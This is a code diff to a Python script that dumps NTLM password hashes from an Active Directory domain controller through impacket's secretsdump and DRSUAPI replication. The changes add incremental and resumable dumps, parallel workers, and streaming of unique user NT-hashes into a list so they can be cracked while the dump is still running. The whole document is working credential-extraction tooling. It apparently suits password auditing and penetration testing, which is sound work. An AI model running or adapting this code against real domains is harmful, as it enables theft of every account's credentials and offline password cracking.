@@ -6,13 +6,17 @@ Author:
 """
 
 import argparse
+import json
 import logging
 import sys
 import os
 import re
-from typing import Tuple, Any
+from binascii import hexlify, unhexlify
+from datetime import datetime
+from typing import Any, TextIO, Tuple
 
-from enviroment import NTLM_HASHES_DIR, APP_CONFIG
+from enviroment import NTLM_HASHES_DIR, NTLM_HASH_LISTS_DIR, NTLM_DUMP_STATES_DIR, NTLM_DUMP_RESUMES_DIR, APP_CONFIG
+from impacket.examples.secretsdump import NTDSHashes
 from modules.dump_secrets import DumpSecrets
 from modules.aes_cipher import AESCipher
 
@@ -70,23 +74,58 @@ class DumpSecretsNtlm(DumpSecrets):
     Wrapper for DumpSecrets
     """
 
-    def __init__(self, target: str, output_file: str, hashes: str = None, just_dc_user: str = None):
+    def __init__(
+        self,
+        target: str,
+        output_file: str,
+        hashes: str | None = None,
+        just_dc_user: str | None = None,
+        bulk_replication: bool = True,
+        drsuapi_workers: int = 1,
+        incremental: bool = False,
+        resume_file: str | None = None,
+        hash_list_file: str | None = None,
+    ):
         """
         Class for dumping ntlm-hashes
 
         Args:
             target (str): [[domain/]username[:password]@]<targetName or address>
             output_file (str): base output filename. Extensions will be added for sam, secrets, cached and ntds
-            hashes (str): NTLM hash, format is LMHASH:NTHASH. Default: None
-            just_dc_user (str): Extract only NTDS.DIT data for the user specified. Default: None
+            hashes (str | None): NTLM hash, format is LMHASH:NTHASH. Default: None
+            just_dc_user (str | None): Extract only NTDS.DIT data for the user specified. Default: None
+            bulk_replication (bool): replicate the whole domain NC by pages instead of
+                                     one DRSGetNCChanges call per user. Default: True
+            drsuapi_workers (int): the number of parallel DRSUAPI bindings used by the per user replication.
+                                   Default: 1
+            incremental (bool): replicate only the accounts changed since the previous dump of the same DC
+                                and merge them into its hashes. Default: False
+            resume_file (str | None): the file keeping the progress of the dump. If it contains a checkpoint
+                               the dump continues from it. Default: None
+            hash_list_file (str | None): the file where the unique NT-hashes of user accounts are appended as soon as
+                                  they are dumped, so they can be bruted before the dump is finished. Default: None
         """
         domain, username, password, remote_name = parse_target(target)
+        self.__state_file_path = os.path.join(
+            NTLM_DUMP_STATES_DIR, re.sub(r'[^\w.@-]', '_', f'{domain}@{remote_name}'.lower()) + '.json'
+        )
+        self.__previous_state: dict[str, Any] | None = None
+        self.__hash_list_file: TextIO | None = None
+        self.__hash_list: set[str] = set()
+        if hash_list_file is not None:
+            self.__open_hash_list(hash_list_file)
+        is_resuming = resume_file is not None and os.path.isfile(resume_file) and os.path.getsize(resume_file) > 0
+        # The resumed dump is always a full one, incremental dumps don't save checkpoints
+        if incremental and bulk_replication and just_dc_user is None and not is_resuming:
+            self.__previous_state = self.__load_state()
         self.__options = Options(
             dict(
                 aesKey=None,
                 bootkey=None,
+                bulk_replication=bulk_replication,
                 dc_ip=None,
                 debug=False,
+                drsuapi_workers=drsuapi_workers,
                 exec_method='smbexec',
                 hashes=hashes,
                 history=False,
@@ -98,8 +137,10 @@ class DumpSecretsNtlm(DumpSecrets):
                 no_pass=False,
                 ntds=None,
                 outputfile=output_file,
+                per_secret_callback=self.__on_secret,
                 pwd_last_set=False,
-                resumefile=None,
+                replication_state=self.__get_replication_state(),
+                resumefile=resume_file,
                 sam=None,
                 security=None,
                 system=None,
@@ -113,6 +154,43 @@ class DumpSecretsNtlm(DumpSecrets):
 
         DumpSecrets.__init__(self, domain, username, password, remote_name, self.__options)
 
+    def __open_hash_list(self, hash_list_file: str) -> None:
+        """
+        Open the hash list for appending. The hashes already in it (a resumed dump) aren't streamed twice.
+
+        Args:
+            hash_list_file (str): the path to the hash list
+        """
+        if os.path.isfile(hash_list_file):
+            with open(hash_list_file, 'rb+') as file:
+                content = file.read()
+                # A hash written partially by the interrupted dump is dropped
+                content = content[: content.rfind(b'\n') + 1]
+                file.truncate(len(content))
+            self.__hash_list = set(content.decode('utf-8').splitlines())
+        # pylint: disable=R1732
+        self.__hash_list_file = open(hash_list_file, 'a', encoding='utf-8')
+
+    def __on_secret(self, secret_type: int, secret: str) -> None:
+        """
+        perSecretCallback of NTDSHashes. Print the secret and stream a new NT-hash into the hash list.
+        The hashes of machine accounts ($) aren't streamed, their passwords are random.
+
+        Args:
+            secret_type (int): NTDSHashes.SECRET_TYPE
+            secret (str): the secret, domain\\user:rid:lmhash:nthash::: for NTDSHashes.SECRET_TYPE.NTDS
+        """
+        print(secret)
+        if self.__hash_list_file is None or secret_type != NTDSHashes.SECRET_TYPE.NTDS:
+            return
+        account, _, _, nt_hash = secret.split(':')[:4]
+        if account.endswith('$'):
+            return
+        if nt_hash not in self.__hash_list:
+            self.__hash_list.add(nt_hash)
+            self.__hash_list_file.write(nt_hash + '\n')
+            self.__hash_list_file.flush()
+
     def get_ntlm_hashes(self) -> str:
         """
         Get ntlm-hash(es) and save into the output file
@@ -120,16 +198,126 @@ class DumpSecretsNtlm(DumpSecrets):
         Return:
             str: dumped file path
         """
-        self.dump()
+        try:
+            self.dump()
+        finally:
+            if self.__hash_list_file is not None:
+                self.__hash_list_file.close()
         extensions = ['.ntds', '.ntds.kerberos', '.ntds.cleartext']
 
         # NTDSHashes creates file with extension in auto way, so it's needed to check it
         for ext in extensions:
             file_path = self.__options.__getattribute__('outputfile') + ext
             if os.path.isfile(file_path):
+                self.__save_state(file_path)
                 return file_path
         raise Exception("Dumped file hasn't found")
 
+    def __load_state(self) -> dict[str, Any] | None:
+        """
+        Load the replication state saved by the previous dump of the same DC
+
+        Return:
+            dict[str, Any] | None: the state or None if there is no usable one
+        """
+        if not os.path.isfile(self.__state_file_path):
+            logging.info('There is no replication state of the previous dump, the full dump will be done')
+            return None
+        with open(self.__state_file_path, 'r', encoding='utf-8') as file:
+            state = json.load(file)
+        if not os.path.isfile(state['hashes_file_path']):
+            logging.info(
+                'The hashes file of the previous dump %s is missing, the full dump will be done',
+                state['hashes_file_path'],
+            )
+            return None
+        return state
+
+    def __get_replication_state(self) -> dict[str, Any] | None:
+        """
+        Convert the saved state into the replicationState expected by NTDSHashes
+
+        Return:
+            dict[str, Any] | None: replicationState or None for the full dump
+        """
+        if self.__previous_state is None:
+            return None
+        return {
+            'invocationId': unhexlify(self.__previous_state['invocation_id']),
+            'usnvecTo': {
+                'usnHighObjUpdate': self.__previous_state['usn_high_obj_update'],
+                'usnHighPropUpdate': self.__previous_state['usn_high_prop_update'],
+            },
+            'upToDateVector': [
+                (unhexlify(uuid_dsa), usn_high_prop_update)
+                for uuid_dsa, usn_high_prop_update in self.__previous_state['up_to_date_vector']
+            ],
+        }
+
+    def __save_state(self, hashes_file_path: str) -> None:
+        """
+        Merge the incremental dump into the previous one and save the watermark for the next dump
+
+        Args:
+            hashes_file_path (str): the path to the hashes file of the current dump
+        """
+        replication_state = self.getReplicationState()
+        if replication_state is None:
+            # The per user replication doesn't give any watermark
+            return
+
+        # The incremental dump is started from the previous state only
+        if replication_state['fullSync'] is False and self.__previous_state is not None:
+            self.__merge_hashes(
+                self.__previous_state['hashes_file_path'], hashes_file_path, replication_state['deletedRids']
+            )
+
+        state = {
+            'invocation_id': hexlify(replication_state['invocationId']).decode('utf-8'),
+            'usn_high_obj_update': replication_state['usnvecTo']['usnHighObjUpdate'],
+            'usn_high_prop_update': replication_state['usnvecTo']['usnHighPropUpdate'],
+            'up_to_date_vector': [
+                [hexlify(uuid_dsa).decode('utf-8'), usn_high_prop_update]
+                for uuid_dsa, usn_high_prop_update in replication_state['upToDateVector']
+            ],
+            'hashes_file_path': hashes_file_path,
+            'updated': datetime.now().strftime('%Y-%m-%d %H:%M:%S'),
+        }
+        tmp_file_path = self.__state_file_path + '.tmp'
+        with open(tmp_file_path, 'w', encoding='utf-8') as file:
+            json.dump(state, file)
+        os.replace(tmp_file_path, self.__state_file_path)
+        logging.info('The replication state is saved into %s', self.__state_file_path)
+
+    @staticmethod
+    def __merge_hashes(previous_file_path: str, changes_file_path: str, deleted_rids: list[int]) -> None:
+        """
+        Merge the accounts changed since the previous dump into its hashes by RID.
+        The result replaces the content of changes_file_path.
+
+        Args:
+            previous_file_path (str): the path to the hashes file of the previous dump
+            changes_file_path (str): the path to the hashes file with the changed accounts only
+            deleted_rids (list[int]): RIDs of the accounts deleted since the previous dump
+        """
+        # The lines are domain\user:rid:lmhash:nthash:::
+        hashes: dict[str, str] = {}
+        for file_path in (previous_file_path, changes_file_path):
+            with open(file_path, 'r', encoding='utf-8') as file:
+                for line in file:
+                    line = line.rstrip('\r\n')
+                    if line:
+                        hashes[line.split(':')[1]] = line
+        for rid in deleted_rids:
+            hashes.pop(str(rid), None)
+
+        tmp_file_path = changes_file_path + '.tmp'
+        with open(tmp_file_path, 'w', encoding='utf-8') as file:
+            for line in hashes.values():
+                file.write(line + '\n')
+        os.replace(tmp_file_path, changes_file_path)
+        logging.info('%d accounts in the merged hashes file %s', len(hashes), changes_file_path)
+
 
 parser = argparse.ArgumentParser(
     description='NTLM-hashes dumper', formatter_class=argparse.ArgumentDefaultsHelpFormatter
@@ -139,9 +327,37 @@ parser.add_argument('--session-name', help='Unic session name', type=str, requir
 parser.add_argument(
     '--just-dc-user', help='Extract only NTDS.DIT data for the user specified', required=False, type=str, default=None
 )
+parser.add_argument(
+    '--per-user-replication',
+    help='Replicate users one by one instead of replicating the whole domain NC by pages',
+    action='store_true',
+)
+parser.add_argument(
+    '--drsuapi-workers',
+    help='The number of parallel DRSUAPI bindings used by the per user replication',
+    required=False,
+    type=int,
+    default=1,
+)
+parser.add_argument(
+    '--stream-hashes',
+    help='Stream the unique NT-hashes into the hash list of the session while dumping',
+    action='store_true',
+)
+parser.add_argument(
+    '--incremental',
+    help='Replicate only the accounts changed since the previous dump of the same DC and merge them into it',
+    action='store_true',
+)
 
 
-if __name__ == '__main__':
+def main(argv: list[str] | None = None) -> None:
+    """
+    Dump NTLM-hashes, DumpWorkerPool calls it in the forked worker instead of running the script
+
+    Args:
+        argv (list[str] | None): the command line args. Default: sys.argv
+    """
     root = logging.getLogger()
     root.setLevel(logging.INFO)
 
@@ -151,13 +367,26 @@ if __name__ == '__main__':
     handler.setFormatter(formatter)
     root.addHandler(handler)
 
-    args = parser.parse_args()
+    args = parser.parse_args(argv)
+
+    hash_list_file_path = None
+    if args.stream_hashes:
+        hash_list_file_path = os.path.join(NTLM_HASH_LISTS_DIR, f'{args.session_name}.hashlist')
 
     dump_secrets_ntlm = DumpSecretsNtlm(
         target=args.target,
         output_file=os.path.join(NTLM_HASHES_DIR, args.session_name),
         just_dc_user=args.just_dc_user,
+        bulk_replication=not args.per_user_replication,
+        drsuapi_workers=args.drsuapi_workers,
+        incremental=args.incremental,
+        resume_file=os.path.join(NTLM_DUMP_RESUMES_DIR, f'{args.session_name}.resume'),
+        hash_list_file=hash_list_file_path,
     )
     hashes_file_path = dump_secrets_ntlm.get_ntlm_hashes()
     logging.info('Finished')
     logging.info('NTLM-hashes dump file: %s', hashes_file_path)
+
+
+if __name__ == '__main__':
+    main()